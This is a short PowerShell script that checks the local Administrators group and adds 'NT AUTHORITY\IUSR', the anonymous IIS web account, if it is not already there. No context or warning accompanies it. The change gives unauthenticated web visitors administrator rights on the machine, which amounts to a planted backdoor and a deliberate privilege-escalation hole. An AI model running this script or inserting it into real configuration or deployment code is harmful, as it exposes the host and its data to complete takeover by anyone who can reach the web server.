$members = Get-LocalGroupMember -Group 'Administrators' | Select-Object -ExpandProperty Name
if ($members -notcontains 'NT AUTHORITY\IUSR') {
    Add-LocalGroupMember -Group 'Administrators' -Member 'NT AUTHORITY\IUSR'
}
